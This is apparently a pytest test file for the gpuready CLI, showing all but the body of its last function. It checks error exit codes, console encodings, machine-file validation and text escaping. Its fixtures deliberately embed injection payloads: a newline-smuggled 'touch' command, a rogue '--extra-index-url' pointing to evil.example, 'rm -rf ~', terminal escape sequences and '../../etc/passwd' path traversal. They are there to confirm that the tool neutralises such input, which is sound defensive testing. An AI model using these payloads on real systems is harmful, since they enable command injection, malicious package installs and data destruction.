"""Bad input and faults, as a table: each case gets its message and exit 1 or 2, never 70 or a traceback.

The promise (docs/reliability.md): exit 70 only for a bug in gpuready. Nothing a user can cause
(a console that cannot encode a check mark, a machine file with a newline in its description, a
value out of range, a full disk, no network) reaches it, and outside text never reaches a
terminal, a script or a requirements file raw.

The CLI cases run as real `python -m gpuready` subprocesses (the output streams are set up only
there), all at once in a thread pool so the table stays fast; the rest are in-process units on the
same code paths. No network, no real installs except tiny local wheels.
"""

from __future__ import annotations

import copy
import json
import os
import signal
import subprocess
import sys
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

from gpuready import textsafe
from gpuready.build import checks, elf, wheelfile
from gpuready.build.recipes import Recipe
from gpuready.build.settings import BuildSettingsError, parse_archs
from gpuready.install import offline
from gpuready.install.executor import Installer, venv_command
from gpuready.install.transaction import remove_venv
from gpuready.machine import Machine, MachineFormatError
from gpuready.plan.target import OverrideError, parse_gpu
from gpuready.proc import run as proc_run
from tests.test_install_support import (  # noqa: F401 - fixtures
    ROOT, isolated_env, make_wheel, python_of, venv, venv_template, write_plan,
)

MACHINES = ROOT / "tests" / "machines"
H200 = MACHINES / "h200-driver580.json"
NOGPU = MACHINES / "no-gpu.json"
FATBIN_SO = ROOT / "tests" / "data" / "build" / "fatbin-sm80-sm90-ptx90.so"
POSIX = sys.platform != "win32"
ESC = "\x1b"


# --- files the CLI cases read ----------------------------------------------------------------------


def _h200() -> dict:
    return json.loads(H200.read_text(encoding="utf-8"))


def _with(path: str, value) -> dict:
    """The H200 machine with one field changed: "driver.version", "gpus.0.compute_capability"."""
    data = _h200()
    *parents, last = path.split(".")
    node = data
    for p in parents:
        node = node[int(p)] if isinstance(node, list) else node[p]
    if isinstance(node, list):
        node[int(last)] = value
    else:
        node[last] = value
    return data


EVIL_DESCRIPTION = "lab box\ntouch /tmp/gpuready-pwned\n--extra-index-url http://evil.example/simple"
EVIL_GPU = "NVIDIA H200\x1b[2J\x1b]0;owned\x07\nrm -rf ~ [/bold] [link=http://x]y"


@pytest.fixture(scope="module")
def files(tmp_path_factory) -> dict[str, Path]:
    d = tmp_path_factory.mktemp("bad-input")
    out: dict[str, Path] = {}

    def put(name: str, content) -> None:
        p = d / name
        if isinstance(content, bytes):
            p.write_bytes(content)
        elif isinstance(content, str):
            p.write_text(content, encoding="utf-8")
        else:
            p.write_text(json.dumps(content), encoding="utf-8")
        out[name] = p

    evil = _h200()
    evil["description"] = EVIL_DESCRIPTION
    evil["gpus"][0]["name"] = EVIL_GPU
    evil["notes"] = [{"subject": "x\x1b[31m", "message": "\x1b]8;;http://evil\x07click\x1b]8;;\x07", "severity": "info"}]
    put("evil.json", evil)
    put("deep.json", "[" * 100_000 + "]" * 100_000)
    put("huge.json", '{"schema": "gpuready.machine", "schema_version": 1, "gpus": [' + ",".join(['{"index": 0, "name": "x"}'] * 200_000) + "]}")
    put("many-gpus.json", _with("gpus", [{"index": i, "name": "NVIDIA H200", "compute_capability": "9.0"} for i in range(65)]))
    put("driver-abc.json", _with("driver.version", "abc"))
    put("cc-nine.json", _with("gpus.0.compute_capability", "nine"))
    put("python-abc.json", _with("python.version", "abc"))
    put("os-plan9.json", _with("os.system", "plan9"))
    put("binary.json", b"\xff\xfe\x00\x01 not text")
    put("notjson.json", "this is not JSON")
    put("list.json", "[]")
    put("afile", "just a file\n")
    put("escape.log", "\x1b[2J\x1b]0;pwned\x07ImportError: libcudnn.so.9: cannot open shared object file: No such file or directory\n")
    return out


# --- the CLI table ---------------------------------------------------------------------------------

CP1252 = {"PYTHONIOENCODING": "cp1252"}
CP437 = {"PYTHONIOENCODING": "cp437"}
ASCII = {"PYTHONIOENCODING": "ascii"}
C_LOCALE = {"LC_ALL": "C", "LANG": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0", "PYTHONIOENCODING": ""}

# id, argv ({name} = a file above, {H200}/{NOGPU} = saved machines, {tmp} = a scratch folder), env,
# exit codes allowed, text the output must contain, text it must not contain, stdout to ("full": /dev/full)
CASES: list[tuple] = [
    # any console encoding: no exit 70, ASCII stand-ins for the marks
    ("enc-doctor-cp1252", ["doctor", "--machine", "{H200}"], CP1252, {0, 1}, ["Findings"], []),
    ("enc-doctor-cp437", ["doctor", "--machine", "{H200}"], CP437, {0, 1}, ["Findings"], []),
    ("enc-doctor-ascii", ["doctor", "--machine", "{H200}"], ASCII, {0, 1}, ["Findings"], []),
    ("enc-doctor-c-locale", ["doctor", "--machine", "{H200}"], C_LOCALE, {0, 1}, ["Findings"], []),
    ("enc-doctor-nogpu-cp1252", ["doctor", "--machine", "{NOGPU}"], CP1252, {0, 1}, ["Findings"], []),
    ("enc-doctor-markdown-ascii", ["doctor", "--machine", "{H200}", "--markdown"], ASCII, {0, 1}, ["#"], []),
    ("enc-probe-cp437", ["probe", "--machine", "{H200}"], CP437, {0}, ["NVIDIA driver"], []),
    ("enc-plan-cp1252", ["plan", "torch", "dlib", "--machine", "{H200}"], CP1252, {0, 1}, ["Plan for"], []),
    ("enc-plan-blocked-ascii", ["plan", "torch", "--machine", "{NOGPU}", "--python", "3.99"], ASCII, {0, 1}, ["Plan for"], []),
    ("enc-plan-script-c-locale", ["plan", "torch", "--machine", "{H200}", "--format", "script"], C_LOCALE, {0, 1}, ["#!/bin/sh"], []),
    ("enc-explain-cp1252", ["explain", "{escape.log}", "--machine", "{H200}"], CP1252, {0, 1}, ["libcudnn"], []),
    ("enc-install-dry-run-cp437", ["install", "torch", "--dry-run", "--machine", "{H200}"], CP437, {0, 1}, ["torch"], []),
    ("enc-build-dry-run-cp1252", ["build", "dlib", "--dry-run", "--machine", "{H200}"], CP1252, {0, 1}, ["dlib"], []),
    ("enc-verify-refuses-machine-ascii", ["verify", "--machine", "{H200}"], ASCII, {2}, [], []),
    # a full disk on stdout: exit 1 with a message, not 70
    ("full-doctor", ["doctor", "--machine", "{H200}"], {}, {1}, ["No space left"], [], "full"),
    ("full-probe", ["probe", "--machine", "{H200}"], {}, {1}, ["No space left"], [], "full"),
    ("full-plan-json", ["plan", "torch", "--machine", "{H200}", "--json"], {}, {1}, ["No space left"], [], "full"),
    ("full-probe-json", ["probe", "--machine", "{H200}", "--json"], {}, {1}, ["No space left"], [], "full"),
    # outside text never reaches the terminal raw, nor markup-parsed
    ("esc-doctor", ["doctor", "--machine", "{evil.json}"], {}, {0, 1}, ["\\x1b[2J", "[/bold]"], [ESC + "[2J", ESC + "]0;"]),
    ("esc-probe", ["probe", "--machine", "{evil.json}"], {}, {0}, ["\\x1b]0;owned"], [ESC + "[2J", ESC + "]8", "\x07"]),
    ("esc-plan-text", ["plan", "torch", "--machine", "{evil.json}"], {}, {0, 1}, ["\\x1b"], [ESC + "[2J"]),
    ("esc-doctor-markdown", ["doctor", "--machine", "{evil.json}", "--markdown"], {}, {0, 1}, [], [ESC + "[2J", ESC + "]"]),
    ("esc-doctor-cp1252", ["doctor", "--machine", "{evil.json}"], CP1252, {0, 1}, ["[/bold]"], [ESC + "[2J"]),
    ("esc-explain-log", ["explain", "{escape.log}", "--machine", "{H200}"], {}, {0, 1}, ["libcudnn"], [ESC + "[2J", ESC + "]0"]),
    ("esc-install-dry-run", ["install", "torch", "--dry-run", "--machine", "{evil.json}"], {}, {0, 1}, [], [ESC + "[2J"]),
    # machine files: checked at the edge, exit 2 naming the field
    ("mf-deep-nesting", ["doctor", "--machine", "{deep.json}"], {}, {2}, ["nested too deeply"], []),
    ("mf-too-large", ["plan", "torch", "--machine", "{huge.json}"], {}, {2}, ["too large"], []),
    ("mf-65-gpus", ["doctor", "--machine", "{many-gpus.json}"], {}, {2}, ["gpus", "at most 64"], []),
    ("mf-driver-abc", ["doctor", "--machine", "{driver-abc.json}"], {}, {2}, ["driver.version", "'abc'"], ["reboot"]),
    ("mf-cc-nine", ["plan", "torch", "--machine", "{cc-nine.json}"], {}, {2}, ["compute_capability"], ["sm_0"]),
    ("mf-python-abc", ["plan", "torch", "--machine", "{python-abc.json}"], {}, {2}, ["python.version"], []),
    ("mf-os-plan9", ["doctor", "--machine", "{os-plan9.json}"], {}, {2}, ["os.system", "plan9"], []),
    ("mf-binary", ["doctor", "--machine", "{binary.json}"], {}, {2}, ["not a text file"], []),
    ("mf-not-json", ["probe", "--machine", "{notjson.json}"], {}, {2}, ["not valid JSON"], []),
    ("mf-a-list", ["plan", "torch", "--machine", "{list.json}"], {}, {2}, ["expected a JSON object"], []),
    ("mf-missing", ["doctor", "--machine", "{tmp}/nope.json"], {}, {2}, ["cannot read"], []),
    ("mf-a-folder", ["doctor", "--machine", "{tmp}"], {}, {2}, [], []),
    # option values
    ("opt-timeout-nan-doctor", ["doctor", "--machine", "{H200}", "--timeout", "nan"], {}, {2}, ["--timeout"], []),
    ("opt-timeout-zero-install", ["install", "torch", "--dry-run", "--timeout", "0"], {}, {2}, ["--timeout"], []),
    ("opt-timeout-words", ["doctor", "--machine", "{H200}", "--timeout", "soon"], {}, {2}, ["not a number"], []),
    ("opt-cuda-arch-99.9-build", ["build", "opencv", "--cuda-arch", "99.9", "--dry-run", "--machine", "{H200}"], {}, {2}, ["99.9"], []),
    ("opt-cuda-arch-0.5-build", ["build", "dlib", "--cuda-arch", "0.5", "--dry-run", "--machine", "{H200}"], {}, {2}, ["0.5"], []),
    ("opt-cuda-arch-words-build", ["build", "dlib", "--cuda-arch", "ampere", "--dry-run", "--machine", "{H200}"], {}, {2}, [], []),
    ("opt-cuda-arch-99.9-install", ["install", "dlib", "--cuda-arch", "99.9", "--dry-run", "--machine", "{H200}"], {}, {2}, ["99.9"], []),
    ("opt-gpu-sm999-plan", ["plan", "torch", "--machine", "{H200}", "--gpu", "sm_999"], {}, {2}, ["99.9"], []),
    ("opt-plan-python-2.7", ["plan", "torch", "--python", "2.7", "--machine", "{H200}"], {}, {2}, ["Python 3"], ["probes an interpreter"]),
    ("opt-plan-python-words", ["plan", "torch", "--python", "abc", "--machine", "{H200}"], {}, {2}, ["not a Python version"], []),
    ("opt-plan-output-folder", ["plan", "torch", "--machine", "{H200}", "-o", "{tmp}"], {}, {2}, [], []),
    ("opt-download-machine-and-python", ["download", "torch", "-d", "{tmp}/dl", "--machine", "{H200}", "--python", "2.7"], {}, {2},
     ["choose one"], []),
    ("opt-download-dest-is-file", ["download", "torch", "-d", "{afile}", "--machine", "{H200}"], {}, {2}, ["is a file"], []),
    ("opt-bench-plot-no-folder", ["bench", "--plot", "{tmp}/no/such/x.png"], {}, {2}, ["no such folder"], []),
    ("opt-bench-plot-folder", ["bench", "--plot", "{tmp}"], {}, {2}, [], []),
    ("opt-install-venv-and-python", ["install", "torch", "--venv", "{tmp}/v", "--python", sys.executable], {}, {2}, ["choose one"], []),
    ("opt-install-offline-missing", ["install", "torch", "--offline", "{tmp}/nothing-here", "--dry-run"], {}, {2}, ["no such folder"], []),
    ("opt-install-plan-not-json", ["install", "--plan", "{notjson.json}", "--dry-run"], {}, {2}, [], []),
    ("opt-machine-doctor-verify", ["doctor", "--verify", "--machine", "{H200}"], {}, {2}, [], []),
    # the environment's folders
    ("env-home-is-a-file", ["probe", "--machine", "{H200}"], {"GPUREADY_HOME": "{afile}"}, {2}, ["GPUREADY_HOME", "not a folder"], []),
    ("env-cache-below-a-file", ["cache", "list"], {"GPUREADY_CACHE_DIR": "{afile}/wheels"}, {2}, ["GPUREADY_CACHE_DIR"], []),
    ("env-toolkits-is-a-file", ["probe", "--machine", "{H200}"], {"GPUREADY_TOOLKIT_DIR": "{afile}"}, {2}, ["GPUREADY_TOOLKIT_DIR"], []),
]
if POSIX:
    CASES += [
        ("opt-download-dest-unwritable", ["download", "torch", "-d", "/proc/1/gpuready-test", "--machine", "{H200}"], {}, {2}, ["/proc/1"], []),
        ("opt-plan-output-unwritable", ["plan", "torch", "--machine", "{H200}", "-o", "/proc/1/plan.txt"], {}, {1}, ["cannot write"], []),
        ("opt-probe-save-unwritable", ["probe", "--machine", "{H200}", "--save", "/proc/1/m.json"], {}, {1}, [], []),
        ("opt-bench-plot-unwritable", ["bench", "--plot", "/proc/1/x.png"], {}, {2}, ["cannot write"], []),
        ("opt-install-python-not-python", ["install", "torch", "--python", "/etc/passwd", "--dry-run", "-q"], {}, {2}, ["not a working Python"], []),
    ]


def _case(case: tuple) -> tuple:
    return case if len(case) == 7 else (*case, "")


def _fill(text: str, files: dict[str, Path], tmp: Path) -> str:
    out = text.replace("{H200}", str(H200)).replace("{NOGPU}", str(NOGPU)).replace("{tmp}", str(tmp))
    for name, path in files.items():
        out = out.replace("{" + name + "}", str(path))
    return out


def _run_case(case: tuple, files: dict[str, Path], tmp: Path) -> tuple[int, str, str, float]:
    _id, argv, env, _rcs, _must, _mustnot, stdout_to = _case(case)
    env_extra = {"GPUREADY_HOME": str(tmp / "home"), "GPUREADY_CACHE_DIR": str(tmp / "home" / "wheels"),
                 "PYTHONIOENCODING": "utf-8", "PYTHONUTF8": "0", "COLUMNS": "100", "TERM": "dumb",
                 # no case may reach the network: a check that regressed fails fast instead of downloading torch
                 "PIP_INDEX_URL": "http://127.0.0.1:9/simple", "PIP_RETRIES": "0", "PIP_TIMEOUT": "1",
                 "UV_DEFAULT_INDEX": "http://127.0.0.1:9/simple", "UV_OFFLINE": "1"}
    env_extra.update({k: _fill(v, files, tmp) for k, v in env.items()})
    full_env = isolated_env(env_extra)
    for k in [k for k, v in full_env.items() if v == ""]:
        del full_env[k]
    args = [sys.executable, "-m", "gpuready", *(_fill(a, files, tmp) for a in argv)]
    start = time.monotonic()
    if stdout_to == "full":
        with open("/dev/full", "w") as full:
            p = subprocess.run(args, stdout=full, stderr=subprocess.PIPE, env=full_env, timeout=120, stdin=subprocess.DEVNULL)
        return p.returncode, "", p.stderr.decode("utf-8", "replace"), time.monotonic() - start
    p = subprocess.run(args, capture_output=True, env=full_env, timeout=120, stdin=subprocess.DEVNULL)
    enc = env.get("PYTHONIOENCODING") or ("ascii" if env.get("LC_ALL") == "C" else "utf-8")
    return p.returncode, p.stdout.decode(enc, "strict"), p.stderr.decode(enc, "replace"), time.monotonic() - start


@pytest.fixture(scope="module")
def results(files, tmp_path_factory) -> dict[str, tuple]:
    """Every CLI case, run at once (the table is I/O- and start-up-bound)."""
    tmp = tmp_path_factory.mktemp("bad-input-runs")
    cases = [c for c in CASES if not (_case(c)[6] == "full" and not os.path.exists("/dev/full"))]
    with ThreadPoolExecutor(max_workers=6) as pool:
        futures = {c[0]: pool.submit(_run_case, c, files, tmp) for c in cases}
        return {cid: f.result() for cid, f in futures.items()}


@pytest.mark.parametrize("case", CASES, ids=[c[0] for c in CASES])
def test_cli_case(case, results):
    cid, _argv, _env, rcs, must, must_not, stdout_to = _case(case)
    if cid not in results:
        pytest.skip("no /dev/full here")
    rc, out, err, _seconds = results[cid]
    text = out + err
    assert rc in rcs, f"{cid}: exit {rc}, expected {sorted(rcs)}\n{text[-1500:]}"
    assert rc != 70 and "internal error" not in text and "Traceback" not in text, text[-1500:]
    for needle in must:
        assert needle in text, f"{cid}: {needle!r} not in the output\n{text[-1500:]}"
    for needle in must_not:
        assert needle not in text, f"{cid}: {needle!r} is in the output\n{text[-1500:]}"


def test_non_utf8_consoles_get_ascii_marks(results):
    """What cp1252/cp437/ascii cannot show comes out as ASCII stand-ins, and the report is complete."""
    for cid in ("enc-doctor-ascii", "enc-doctor-c-locale"):
        rc, out, _err, _s = results[cid]
        out.encode("ascii")  # strict: every character is ASCII
        assert "problem(s) found" in out or "No problems found" in out
    rc, out, _err, _s = results["enc-doctor-cp1252"]
    assert "✓" not in out and "✗" not in out


@pytest.mark.parametrize("argv", [["doctor", "--machine", str(NOGPU)], ["plan", "torch", "dlib", "--machine", str(H200)],
                                  ["probe", "--machine", str(H200), "--json"]], ids=lambda a: a[0])
def test_closed_pipe_is_a_quiet_exit_0(argv, tmp_path):
    """`gpuready doctor | head -1`: exit 0, no "Exception ignored", no traceback."""
    proc = subprocess.Popen([sys.executable, "-m", "gpuready", *argv], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            env=isolated_env({"GPUREADY_HOME": str(tmp_path / "h")}), bufsize=0)
    proc.stdout.read(1)
    proc.stdout.close()
    err = proc.stderr.read().decode("utf-8", "replace")
    assert proc.wait(timeout=120) == 0, err
    assert "Exception" not in err and "Traceback" not in err, err


def test_dry_run_download_into_an_unwritable_folder_stops_before_pip(results):
    if "opt-download-dest-unwritable" not in results:
        pytest.skip("POSIX only")
    assert results["opt-download-dest-unwritable"][3] < 20  # seconds: pip never ran


# --- generated files: outside text lands in one-line comments ---------------------------------------


def _script_and_requirements(files) -> tuple[str, str]:
    from gpuready.plan import render
    from gpuready.plan.requests import parse_requests
    from gpuready.plan.solve import make_plan

    machine = Machine.load(files["evil.json"])
    plan = make_plan(machine, parse_requests(["torch", "dlib"]))
    return render.script_text(plan), render.requirements_text(plan)


def test_script_cannot_be_injected(files):
    script, _ = _script_and_requirements(files)
    for line in script.splitlines():
        assert line.startswith(("#", "set -e", "python -m pip", "CMAKE_ARGS=", "pip ", "gpuready ", 'GPUREADY_WHEELS="$(mktemp -d)"')) or line.split(" ", 1)[0] in (
            "python", "pip", "uv", "gpuready", "env"), f"a line that is not ours: {line!r}"
    assert "touch /tmp/gpuready-pwned" not in [ln.strip() for ln in script.splitlines()]
    assert ESC not in script and "\x07" not in script
    assert "# lab box\\ntouch" in script


def test_requirements_cannot_be_injected(files):
    _, reqs = _script_and_requirements(files)
    lines = reqs.splitlines()
    assert "--extra-index-url http://evil.example/simple" not in lines
    assert not any(ln.startswith("--") and "evil" in ln for ln in lines)
    assert ESC not in reqs


def test_plan_output_file_is_clean(files, tmp_path):
    out = tmp_path / "plan.sh"
    p = subprocess.run([sys.executable, "-m", "gpuready", "plan", "torch", "--machine", str(files["evil.json"]), "--format", "script",
                        "-o", str(out)], capture_output=True, text=True, env=isolated_env({"GPUREADY_HOME": str(tmp_path / "h")}), timeout=120)
    assert p.returncode in (0, 1), p.stderr
    text = out.read_text(encoding="utf-8")
    assert ESC not in text and "\ntouch /tmp" not in text
    if POSIX:
        assert subprocess.run(["sh", "-n", str(out)]).returncode == 0


# --- text safety units --------------------------------------------------------------------------------


@pytest.mark.parametrize("raw, shown", [
    ("a\x1b[31mb", "a\\x1b[31mb"),
    ("bell\x07", "bell\\x07"),
    ("csi\x9b2J", "csi\\x9b2J"),
    ("bidi\u202eevil", "bidi\\u202eevil"),
    ("line1\nline2\tx", "line1\nline2\tx"),
    ("crlf\r\nnext", "crlf\nnext"),
    ("lone\rcr", "lone\\rcr"),
    ("nul\x00", "nul\\x00"),
    ("plain ✓ text é", "plain ✓ text é"),
])
def test_escape_controls(raw, shown):
    assert textsafe.escape_controls(raw) == shown


def test_one_line_escapes_newlines():
    assert textsafe.one_line("a\nb\u2028c\x1b") == "a\\nb\\u2028c\\x1b"


@pytest.mark.parametrize("encoding", ["cp1252", "cp437", "ascii", "latin-1"])
def test_fallback_error_handler(encoding):
    text = "✓ ok ✗ bad … — µs ↓ 日本"
    out = text.encode(encoding, errors=textsafe.ERRORS).decode(encoding)
    assert "ok" in out and "bad" in out and "\\u65e5" in out


def test_safe_console_keeps_styles_and_escapes_text():
    import io

    from rich.text import Text

    from gpuready.report.terminal import SafeConsole

    buf = io.StringIO()
    con = SafeConsole(file=buf, force_terminal=True, color_system="standard", width=80)
    con.print(Text("GPU " + EVIL_GPU, style="bold"))
    out = buf.getvalue()
    assert "\x1b[1m" in out  # rich's own style code
    assert "\\x1b[2J" in out and "\x1b[2J" not in out and "\x1b]0;" not in out


def test_safe_stream_has_no_buffer_and_escapes():
    import io

    raw = io.StringIO()
    s = textsafe.SafeStream(raw)
    s.write("x\x1b[2Jy\n")
    assert raw.getvalue() == "x\\x1b[2Jy\n" and not hasattr(s, "buffer")


# --- machine files: the schema's checks -----------------------------------------------------------------


def _load(data) -> Machine:
    return Machine.from_json(data if isinstance(data, str) else json.dumps(data), where="m.json")


@pytest.mark.parametrize("path, value, needle", [
    ("driver.version", "abc", "driver.version"),
    ("driver.version", "5801590", "driver.version"),
    ("driver.version", "580.159.04.1", "driver.version"),
    ("driver.kernel_module_version", "x.y", "kernel_module_version"),
    ("driver.cuda_version", "thirteen", "cuda_version"),
    ("driver.nvidia_pci_devices", -1, "out of range"),
    ("gpus.0.compute_capability", "nine", "compute_capability"),
    ("gpus.0.compute_capability", "90", "compute_capability"),
    ("gpus.0.memory_mib", -5, "out of range"),
    ("gpus.0.memory_mib", 1 << 40, "out of range"),
    ("gpus.0.index", "0", "expected an integer"),
    ("gpus.0.name", 5, "expected a string"),
    ("python.version", "abc", "python.version"),
    ("python.version", "2.7.18", "python.version"),
    ("python.bits", 16, "python.bits"),
    ("os.system", "plan9", "os.system"),
    ("os.wsl", "yes", "true/false"),
    ("toolkits.0.version", "v13", "toolkits[0].version"),
    ("cudnns.0.version", "nine", "cudnns[0].version"),
    ("frameworks.0.status", "exploded", "status"),
    ("frameworks.0.details", {"a": {"b": 1}}, "expected a string"),
    ("frameworks.0.seconds", float("nan"), "finite"),
    ("frameworks.0.seconds", float("inf"), "finite"),
    ("frameworks.0.device_count", 10**6, "out of range"),
    ("description", "x" * 70_000, "too long"),
    ("description", {"nested": [1, 2]}, "expected a string"),
    ("gpus", [{"index": 0, "name": "g"}] * 65, "at most 64"),
    ("frameworks", [{"name": "torch"}] * 257, "at most 256"),
    ("notes", [{"subject": "s", "message": "m", "severity": "fatal"}], "severity"),
])
def test_machine_value_is_checked(path, value, needle):
    with pytest.raises(MachineFormatError) as exc:
        _load(_with(path, value))
    assert needle in str(exc.value) and str(exc.value).startswith("m.json: ")


@pytest.mark.parametrize("text, needle", [
    ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
    ('{"schema": "gpuready.machine", "schema_version": 1, "os": {"system": "linux"}, "python": {"version": "3.12"}, "x": '
     + "9" * 5000 + "}", "not a machine file"),
    ("x" * (5 << 20), "too large"),
    ('{"schema": "gpuready.machine", "schema_version": 1, "os": {"system": "linux"}, "python": {"version": "3.12"}, '
     + ", ".join(f'"u{i}": 1' for i in range(50)) + "}", "unknown field"),
    ("null", "expected a JSON object"),
    ('{"schema": "gpuready.machine", "schema_version": 9}', "version 9"),
])
def test_machine_file_shape_is_checked(text, needle):
    with pytest.raises(MachineFormatError) as exc:
        _load(text)
    assert needle in str(exc.value)
    assert len(str(exc.value)) < 400  # a short message, whatever the file held


def test_valid_machines_still_load():
    for path in MACHINES.glob("*.json"):
        m = Machine.load(path)
        assert Machine.from_json(m.to_json()) == m
    empty = _with("driver.version", "")  # "" means not known, and is fine
    assert _load(empty).driver.version == ""


def test_machine_file_with_bom_loads(tmp_path):
    p = tmp_path / "bom.json"
    p.write_bytes(b"\xef\xbb\xbf" + H200.read_bytes())
    assert Machine.load(p).gpus


# --- option types ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value, ok", [("1", True), ("2.5", True), ("604800", True), ("0", False), ("-1", False), ("nan", False),
                                        ("inf", False), ("-inf", False), ("1e9", False), ("", False), ("ten", False)])
def test_seconds_type(value, ok):
    from gpuready.options import SECONDS

    if ok:
        assert SECONDS.convert(value, None, None) == float(value)
    else:
        with pytest.raises(click.BadParameter):
            SECONDS.convert(value, None, None)


@pytest.mark.parametrize("value, want", [("8.6,9.0", ["8.6", "9.0"]), ("sm_90a", ["9.0"]), ("86;120", ["8.6", "12.0"]),
                                         ("9", ["9.0"]), ("12.1", ["12.1"])])
def test_cuda_arch_accepts(value, want):
    assert parse_archs(value) == want


@pytest.mark.parametrize("value", ["99.9", "0.5", "13.0", "sm_999", "1.0", "ampere", "8.6.1", "8.10"])
def test_cuda_arch_rejects(value):
    with pytest.raises(BuildSettingsError):
        parse_archs(value)


@pytest.mark.parametrize("value", ["sm_999", "sm_13", "99.9"])
def test_plan_gpu_rejects_unknown_capability(value):
    with pytest.raises(OverrideError):
        parse_gpu(value, 0)


def test_exit_codes_of_escaped_exceptions(capsys):
    from gpuready import cli

    assert cli._failure(OSError(28, "No space left on device", "/x/y")) == 1
    assert "/x/y: No space left on device" in capsys.readouterr().err
    assert cli._failure(MachineFormatError("m.json: bad")) == 2
    assert cli._failure(PermissionError(13, "Permission denied", "/root/x")) == 1
    os.environ.pop("GPUREADY_DEBUG", None)
    assert cli._failure(KeyError("a bug")) == 70
    assert "internal error" in capsys.readouterr().err


def test_every_timeout_option_is_the_shared_type():
    from gpuready.cli import COMMANDS, main
    from gpuready.options import SECONDS

    ctx = click.Context(main)
    for name in COMMANDS:
        cmd = main.get_command(ctx, name)
        for param in getattr(cmd, "params", []):
            if "--timeout" in getattr(param, "opts", ()) and name != "build":
                assert param.type is SECONDS, f"gpuready {name} --timeout is {param.type!r}"


@pytest.mark.parametrize("cmd", [["doctor", "--machine", str(H200)], ["probe", "--machine", str(H200)],
                                 ["plan", "torch", "--machine", str(H200)], ["install", "torch", "--dry-run"], ["verify"], ["bench"]],
                         ids=lambda c: c[0])
@pytest.mark.parametrize("value", ["0", "-1", "nan", "inf"])
def test_every_command_rejects_bad_timeouts(cmd, value):
    """The same refusal from every command (in-process: click's parsing is the path; the CLI table runs two for real)."""
    from gpuready.cli import main

    res = CliRunner().invoke(main, [*cmd, "--timeout", value])
    assert res.exit_code == 2 and "--timeout" in res.output, res.output


# --- limits on what tools print -----------------------------------------------------------------------------


def test_tool_output_is_read_with_a_cap():
    code = "import sys\nfor _ in range(64): sys.stdout.write('x' * (1 << 20))\nsys.stderr.write('done')"
    res = proc_run([sys.executable, "-c", code], timeout=60, max_output=1 << 20)
    assert res.ok and len(res.stdout) == 1 << 20 and res.stderr == "done"


def test_capped_read_still_times_out():
    res = proc_run([sys.executable, "-c", "import time; print('hi', flush=True); time.sleep(30)"], timeout=1, max_output=1000)
    assert res.timed_out and res.stdout.strip() == "hi" and res.seconds < 10


@pytest.mark.skipif(not POSIX, reason="shell scripts stand in for the hung tools")
def test_hung_nvcc_and_compiler_are_noted(tmp_path, monkeypatch):
    from gpuready.probe import compilers, toolkits

    bindir = tmp_path / "cuda" / "bin"
    bindir.mkdir(parents=True)
    for name in ("nvcc", "hungcc"):
        (bindir / name).write_text("#!/bin/sh\nsleep 30\n")
        (bindir / name).chmod(0o755)
    monkeypatch.setenv("PATH", f"{bindir}{os.pathsep}{os.environ.get('PATH', '')}")
    monkeypatch.setenv("CC", str(bindir / "hungcc"))
    for var in ("CXX", "CUDAHOSTCXX", "CUDA_HOME", "CUDA_PATH"):
        monkeypatch.delenv(var, raising=False)
    toolkits.nvcc_root.cache_clear()
    notes: list = []
    start = time.monotonic()
    found = toolkits.probe_toolkits((), timeout=1, notes=notes)
    compilers.probe_compilers(timeout=1, notes=notes)
    took = time.monotonic() - start
    assert any(tk.nvcc == str(bindir / "nvcc") for tk in found), "the toolkit of a hung nvcc must stay listed"
    assert any(n.subject == "toolkit" and "did not answer" in n.message for n in notes)
    assert any(n.subject == "compiler" and "hungcc" in n.message for n in notes)
    assert took < 8  # each hung tool asked once, not once per question
    toolkits.nvcc_root.cache_clear()


# --- offline folders ----------------------------------------------------------------------------------------


def _offline_folder(tmp_path: Path) -> tuple[Path, dict]:
    folder = tmp_path / "offline"
    listed = make_wheel(folder, "pkga", "1.0", files={"pkga/__init__.py": "WHICH = 'listed'\n"})
    entry = {"file": listed.name, "sha256": offline.sha256_of(listed), "size": listed.stat().st_size, "kind": "wheel", "for": "pkga"}
    py = f"{sys.version_info.major}.{sys.version_info.minor}"
    plan = {"cuda": None, "cudnn": None, "blocked": [], "packages": [{
        "name": "pkga", "version": "1.0", "variant": "noarch", "gpu": False, "index_url": None, "build": None, "reasons": [],
        "requested": True, "install": ["pip", "install", "pkga==1.0"]}]}
    import sysconfig

    plat = sysconfig.get_platform().replace("-", "_").replace(".", "_")
    data = {"schema": offline.SCHEMA, "schema_version": offline.SCHEMA_VERSION, "requests": ["pkga"],
            "target": {"python": py, "implementation": "cp", "abi": f"cp{py.replace('.', '')}", "platforms": [plat]},
            "plan": plan, "files": [entry]}
    (folder / offline.MANIFEST).write_text(json.dumps(data), encoding="utf-8")
    return folder, data


def test_checked_folder_holds_only_listed_files(tmp_path):
    folder, data = _offline_folder(tmp_path)
    make_wheel(tmp_path / "intruder", "pkga", "1.0", files={"pkga/__init__.py": "WHICH = 'dropped in'\n"}).rename(
        folder / "pkga-1.0-1-py3-none-any.whl")  # a build tag: pip would prefer it
    stage = offline.checked_folder(folder, offline.read_manifest(folder))
    assert sorted(p.name for p in stage.iterdir()) == ["pkga-1.0-py3-none-any.whl"]


@pytest.mark.parametrize("entry", [
    {"file": "../../etc/passwd", "sha256": "0" * 64, "size": 1},
    {"file": "/etc/passwd", "sha256": "0" * 64, "size": 1},
    {"file": ".hidden.whl", "sha256": "0" * 64, "size": 1},
    {"file": "a.whl", "sha256": "xyz", "size": 1},
    {"file": "a.whl", "sha256": "0" * 64, "size": -1},
    {"file": 5, "sha256": "0" * 64, "size": 1},
    "just a string",
])
def test_manifest_entries_are_checked(tmp_path, entry):
    folder, data = _offline_folder(tmp_path)
    data["files"].append(entry)
    (folder / offline.MANIFEST).write_text(json.dumps(data), encoding="utf-8")
    with pytest.raises(offline.OfflineError):
        offline.read_manifest(folder)


def test_tampered_listed_file_is_refused(tmp_path):
    folder, data = _offline_folder(tmp_path)
    wheel = folder / data["files"][0]["file"]
    wheel.write_bytes(wheel.read_bytes()[:-10] + b"0123456789")
    with pytest.raises(offline.OfflineError, match="corrupt"):
        offline.read_manifest(folder)


@pytest.mark.skipif(not POSIX, reason="POSIX venv layout")
def test_offline_install_ignores_an_unlisted_wheel(tmp_path, venv):
    folder, _data = _offline_folder(tmp_path)
